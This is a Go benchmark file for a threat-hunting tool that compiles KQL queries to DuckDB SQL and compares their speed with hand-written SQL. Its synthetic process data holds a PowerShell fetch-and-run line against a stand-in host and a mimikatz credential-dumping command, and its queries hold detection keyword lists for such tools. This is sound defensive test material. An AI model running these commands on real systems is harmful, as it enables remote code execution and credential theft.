package duckdb_test

import (
	"context"
	"fmt"
	"testing"
	"time"

	"github.com/sleuth-hunt/sleuth/internal/catalog"
	"github.com/sleuth-hunt/sleuth/internal/kql"
	"github.com/sleuth-hunt/sleuth/internal/kql/check"
	"github.com/sleuth-hunt/sleuth/internal/kql/duckdb"
	"github.com/sleuth-hunt/sleuth/internal/rows"
	"github.com/sleuth-hunt/sleuth/internal/store"
)

// benchNow is the reference time of the benchmark data.
var benchNow = time.Date(2024, 5, 1, 0, 0, 0, 0, time.UTC)

// huntQuery is a typical hunting question asked twice: in KQL, compiled,
// and as the best DuckDB SQL we could write by hand for the same answer.
type huntQuery struct {
	name string
	kql  string
	sql  []string // hand-written variants; the fastest is the yardstick
}

var huntQueries = []huntQuery{
	{
		name: "filter-summarize",
		kql: `Logons | where TimeGenerated > ago(7d) and ResultType != "0"
| summarize Failures = count(), IPs = dcount(IPAddress) by Account`,
		sql: []string{`SELECT "Account", count(*) AS "Failures", count(DISTINCT "IPAddress") AS "IPs" FROM "Logons"
WHERE "TimeGenerated" > TIMESTAMP '2024-04-24 00:00:00' AND "ResultType" <> '0' GROUP BY "Account"`},
	},
	{
		name: "join-failed-successful",
		kql: `let fails = Logons | where ResultType != "0" | summarize n = count() by Account, IPAddress | where n > 2;
let oks = Logons | where ResultType == "0" | summarize LastOk = max(TimeGenerated) by Account, IPAddress;
fails | join kind=inner (oks) on Account, IPAddress | project Account, IPAddress, n, LastOk`,
		sql: []string{`WITH f AS (SELECT "Account", "IPAddress", count(*) AS n FROM "Logons" WHERE "ResultType" <> '0' GROUP BY 1, 2 HAVING count(*) > 2),
s AS (SELECT "Account", "IPAddress", max("TimeGenerated") AS "LastOk" FROM "Logons" WHERE "ResultType" = '0' GROUP BY 1, 2)
SELECT f."Account", f."IPAddress", f.n, s."LastOk" FROM f JOIN s ON f."Account" = s."Account" AND f."IPAddress" = s."IPAddress"`},
	},
	{
		name: "arg_max-per-device",
		kql:  `Procs | summarize arg_max(TimeGenerated, *) by DeviceName`,
		sql: []string{`SELECT "DeviceName", max("TimeGenerated") AS "TimeGenerated", arg_max("Account", "TimeGenerated") AS "Account",
arg_max("CommandLine", "TimeGenerated") AS "CommandLine" FROM "Procs" GROUP BY "DeviceName"`},
	},
	{
		name: "has_any-command-lines",
		kql:  `Procs | where CommandLine has_any ("mimikatz", "sekurlsa", "invoke-expression") | summarize n = count() by DeviceName`,
		sql: []string{`SELECT "DeviceName", count(*) AS n FROM "Procs"
WHERE regexp_matches("CommandLine", '(?i)(?:^|[^\pL\pN])(?:mimikatz|sekurlsa|invoke-expression)(?:$|[^\pL\pN])')
GROUP BY "DeviceName"`, `SELECT "DeviceName", count(*) AS n FROM "Procs"
WHERE regexp_matches("CommandLine", '(?i)mimikatz|sekurlsa|invoke-expression')
AND regexp_matches("CommandLine", '(?i)(?:^|[^0-9a-z])(?:mimikatz|sekurlsa|invoke-expression)(?:$|[^0-9a-z])')
GROUP BY "DeviceName"`},
	},
}

func benchCatalog(b *testing.B) *catalog.Catalog {
	cat, err := catalog.New([]*catalog.Table{
		{Name: "Logons", Source: "bench", Columns: []catalog.Column{
			{Name: "TimeGenerated", Type: catalog.Datetime}, {Name: "Account", Type: catalog.String},
			{Name: "IPAddress", Type: catalog.String}, {Name: "ResultType", Type: catalog.String},
			{Name: "DeviceName", Type: catalog.String},
		}},
		{Name: "Procs", Source: "bench", Columns: []catalog.Column{
			{Name: "TimeGenerated", Type: catalog.Datetime}, {Name: "DeviceName", Type: catalog.String},
			{Name: "Account", Type: catalog.String}, {Name: "CommandLine", Type: catalog.String},
		}},
	})
	if err != nil {
		b.Fatal(err)
	}
	return cat
}

// benchStore fills an in-memory store with n pseudo-random rows per table,
// generated inside DuckDB.
func benchStore(b *testing.B, cat *catalog.Catalog, n int) *store.Store {
	ctx := context.Background()
	st, err := store.Open(ctx, ":memory:", store.Options{Catalog: cat, InitSQL: duckdb.Prelude()})
	if err != nil {
		b.Fatal(err)
	}
	b.Cleanup(func() { st.Close() })
	logons := fmt.Sprintf(`INSERT INTO "Logons" SELECT
		TIMESTAMP '2024-05-01' - to_seconds(i %% 2592000),
		'user' || (hash(i) %% 5000),
		'10.' || (hash(i + 1) %% 20) || '.' || (hash(i + 2) %% 25) || '.1',
		CASE WHEN hash(i + 3) %% 20 = 0 THEN '50126' ELSE '0' END,
		'host-' || (i %% 2000)
		FROM range(%d) t(i)`, n)
	procs := fmt.Sprintf(`INSERT INTO "Procs" SELECT
		TIMESTAMP '2024-05-01' - to_seconds(i %% 2592000),
		'host-' || (hash(i) %% 2000),
		'user' || (hash(i + 1) %% 5000),
		CASE hash(i + 2) %% 1000
			WHEN 0 THEN 'powershell -nop -c Invoke-Expression (New-Object Net.WebClient).DownloadString(''http://x/a'')'
			WHEN 1 THEN 'mimikatz.exe "sekurlsa::logonpasswords" exit'
			WHEN 2 THEN 'notmimikatzish.exe --sekurlsa_dump'
			ELSE 'C:\Windows\system32\svchost.exe -k netsvcs -p -s Schedule ' || (i %% 97) END
		FROM range(%d) t(i)`, n)
	for _, q := range []string{logons, procs} {
		if err := st.Exec(ctx, q); err != nil {
			b.Fatal(err)
		}
	}
	return st
}

func compileBench(b *testing.B, cat *catalog.Catalog, src string) string {
	q, err := kql.Parse(src)
	if err != nil {
		b.Fatal(err)
	}
	ch, err := check.Check(q, check.Options{Catalog: cat, Now: benchNow})
	if err != nil {
		b.Fatal(err)
	}
	res, err := duckdb.Compile(ch, duckdb.Options{})
	if err != nil {
		b.Fatal(err)
	}
	return res.SQL
}

// drain runs a query and reads every row.
func drain(b *testing.B, st *store.Store, sql string) int {
	n := 0
	err := st.Each(context.Background(), sql, func([]rows.Column, []any) error { n++; return nil })
	if err != nil {
		b.Fatalf("%v\n%s", err, sql)
	}
	return n
}

// BenchmarkHunting runs each hunting question as compiled KQL and as
// hand-written SQL, alternating in one loop (so that load on the machine
// hits both alike), and reports the compiled time, the fastest hand-written
// variant's and their ratio. The 10M-row size is skipped with -short.
func BenchmarkHunting(b *testing.B) {
	cat := benchCatalog(b)
	for _, n := range []int{100_000, 10_000_000} {
		if n > 100_000 && testing.Short() {
			continue
		}
		st := benchStore(b, cat, n)
		for _, q := range huntQueries {
			compiled := compileBench(b, cat, q.kql)
			b.Run(fmt.Sprintf("%s/rows=%d", q.name, n), func(b *testing.B) {
				// They must agree before their speed means anything.
				want := drain(b, st, compiled)
				for _, h := range q.sql {
					if got := drain(b, st, h); got != want {
						b.Fatalf("compiled KQL returned %d rows, hand-written SQL %d:\n%s", want, got, h)
					}
				}
				var tc time.Duration
				th := make([]time.Duration, len(q.sql))
				for i := 0; i < b.N; i++ {
					start := time.Now()
					drain(b, st, compiled)
					tc += time.Since(start)
					for j, h := range q.sql {
						start = time.Now()
						drain(b, st, h)
						th[j] += time.Since(start)
					}
				}
				best := th[0]
				for _, d := range th[1:] {
					best = min(best, d)
				}
				b.ReportMetric(float64(tc.Microseconds())/1000/float64(b.N), "compiled-ms/op")
				b.ReportMetric(float64(best.Microseconds())/1000/float64(b.N), "handwritten-ms/op")
				b.ReportMetric(float64(tc)/float64(best), "ratio")
			})
		}
	}
}

// typicalQueries are hunting queries of everyday size for the front-end
// benchmark.
var typicalQueries = []string{
	`SigninLogs | where TimeGenerated > ago(1d) and ResultType != "0" | summarize count() by UserPrincipalName, IPAddress | where count_ > 10`,
	`let fails = SigninLogs | where ResultType != "0" | summarize f = count() by UserPrincipalName;
let oks = SigninLogs | where ResultType == "0" | summarize s = count(), last = max(TimeGenerated) by UserPrincipalName;
fails | join kind=inner (oks) on UserPrincipalName | where f > 5 | project UserPrincipalName, f, s, last | order by f desc`,
	`DeviceProcessEvents | where ProcessCommandLine has_any ("mimikatz", "sekurlsa", "lsadump") or FileName =~ "procdump.exe"
| extend Host = tolower(DeviceName) | summarize arg_max(TimeGenerated, *) by Host`,
}

// BenchmarkFrontEnd measures parse + check + compile of typical queries
// against the built-in catalog.
func BenchmarkFrontEnd(b *testing.B) {
	cat := catalog.Default()
	for i, src := range typicalQueries {
		b.Run(fmt.Sprintf("q%d", i+1), func(b *testing.B) {
			b.ReportAllocs()
			for n := 0; n < b.N; n++ {
				q, err := kql.Parse(src)
				if err != nil {
					b.Fatal(err)
				}
				ch, err := check.Check(q, check.Options{Catalog: cat, Now: benchNow})
				if err != nil {
					b.Fatal(err)
				}
				if _, err := duckdb.Compile(ch, duckdb.Options{}); err != nil {
					b.Fatal(err)
				}
			}
		})
	}
}
